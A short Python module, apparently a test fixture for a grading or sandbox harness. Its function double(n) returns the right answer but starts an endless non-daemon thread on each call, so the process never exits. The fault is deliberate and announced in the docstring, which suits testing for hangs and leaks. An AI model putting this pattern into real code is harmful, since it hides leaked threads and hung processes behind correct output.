"""Answers rightly, and leaves threads that never end."""

import threading
import time


def burn():
    while True:
        time.sleep(0.0005)


def double(n):
    threading.Thread(target=burn, daemon=False).start()
    return 2 * n
